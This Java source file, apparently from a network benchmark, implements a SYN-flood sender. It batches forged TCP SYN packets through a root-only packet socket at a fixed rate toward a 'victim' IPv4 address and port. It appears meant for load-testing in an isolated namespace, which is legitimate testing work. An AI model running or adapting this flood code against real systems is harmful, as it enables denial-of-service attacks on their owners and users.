package dev.sinew.bench.flood;

import static java.lang.foreign.ValueLayout.ADDRESS;
import static java.lang.foreign.ValueLayout.JAVA_BYTE;
import static java.lang.foreign.ValueLayout.JAVA_INT;
import static java.lang.foreign.ValueLayout.JAVA_LONG;
import static java.lang.foreign.ValueLayout.JAVA_SHORT;

import java.io.IOException;
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.nio.ByteOrder;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;

/** Sends forged SYNs through a packet socket onto a device, so many a second. */
final class SynSource implements AutoCloseable {
  private static final int BATCH = 64;
  private static final int SLOT = 64;
  private static final int MESSAGE_BYTES = 64; // struct mmsghdr
  private static final int IO_VECTOR_BYTES = 16; // struct iovec
  private static final long LEAST_PAUSE_NANOS = 60_000;

  private static final int AF_PACKET = 17;
  private static final int SOCK_DGRAM = 2;
  private static final int ETH_P_IP = 0x0800;

  private static final ValueLayout.OfShort SHORT =
      JAVA_SHORT.withByteAlignment(1).withOrder(ByteOrder.BIG_ENDIAN);

  private static final MethodHandle SOCKET =
      handle("socket", FunctionDescriptor.of(JAVA_INT, JAVA_INT, JAVA_INT, JAVA_INT));
  private static final MethodHandle BIND =
      handle("bind", FunctionDescriptor.of(JAVA_INT, JAVA_INT, ADDRESS, JAVA_INT));
  private static final MethodHandle CLOSE =
      handle("close", FunctionDescriptor.of(JAVA_INT, JAVA_INT));
  private static final MethodHandle SENDMMSG =
      handle("sendmmsg", FunctionDescriptor.of(JAVA_INT, JAVA_INT, ADDRESS, JAVA_INT, JAVA_INT));

  private final MemorySegment packets = Arena.ofAuto().allocate((long) BATCH * SLOT, 64);
  private final MemorySegment messages = Arena.ofAuto().allocate((long) BATCH * MESSAGE_BYTES, 8);
  private final MemorySegment vectors = Arena.ofAuto().allocate((long) BATCH * IO_VECTOR_BYTES, 8);
  private final ForgedSyn syns;
  private final int fd;
  private volatile boolean stopped;

  /**
   * To be called in the device's namespace; the socket stays there.
   *
   * @param victim the IPv4 address that is attacked
   */
  SynSource(int deviceIndex, int victim, int port) throws IOException {
    syns = new ForgedSyn(victim, port, new SplittableRandom(1)::nextLong);
    fd = call(SOCKET, AF_PACKET, SOCK_DGRAM, 0);
    MemorySegment address = Arena.ofAuto().allocate(20, 8); // struct sockaddr_ll
    address.set(JAVA_SHORT, 0, (short) AF_PACKET);
    address.set(SHORT, 2, (short) ETH_P_IP);
    address.set(JAVA_INT, 4, deviceIndex);
    if (fd < 0 || call(BIND, fd, address, 20) < 0) {
      throw new IOException("no packet socket on the device; run as root (sudo)");
    }
    for (int i = 0; i < BATCH; i++) {
      vectors.set(ADDRESS, (long) i * IO_VECTOR_BYTES, packets.asSlice((long) i * SLOT));
      vectors.set(JAVA_LONG, (long) i * IO_VECTOR_BYTES + 8, ForgedSyn.LENGTH);
      messages.set(
          ADDRESS, (long) i * MESSAGE_BYTES + 16, vectors.asSlice((long) i * IO_VECTOR_BYTES));
      messages.set(JAVA_LONG, (long) i * MESSAGE_BYTES + 24, 1);
    }
  }

  private static MethodHandle handle(String name, FunctionDescriptor type) {
    Linker linker = Linker.nativeLinker();
    return linker.downcallHandle(linker.defaultLookup().findOrThrow(name), type);
  }

  private static int call(MethodHandle handle, Object... arguments) {
    try {
      return (int) handle.invokeWithArguments(arguments);
    } catch (Throwable e) {
      throw new IllegalStateException(e);
    }
  }

  /** Sends until {@link #close}; the rate is kept on average, in batches of 64. */
  void run(long perSecond) {
    long begin = System.nanoTime();
    long due = 0;
    while (!stopped) {
      for (int i = 0; i < BATCH; i++) {
        MemorySegment.copy(syns.next(), 0, packets, JAVA_BYTE, (long) i * SLOT, ForgedSyn.LENGTH);
      }
      send();
      due += BATCH;
      long wait = begin + due * 1_000_000_000L / perSecond - System.nanoTime();
      if (wait > LEAST_PAUSE_NANOS) {
        LockSupport.parkNanos(wait);
      } else if (wait < -100_000_000L) {
        // It was kept from running: that much is lost, a burst would be no steady rate.
        begin -= wait;
      }
    }
    int unused = call(CLOSE, fd);
  }

  private void send() {
    try {
      // What the queue has no room for is dropped, and counted by the device.
      int unused = (int) SENDMMSG.invokeExact(fd, messages, BATCH, 0);
    } catch (Throwable e) {
      throw new IllegalStateException(e);
    }
  }

  /** Ends {@link #run}. */
  @Override
  public void close() {
    stopped = true;
  }
}
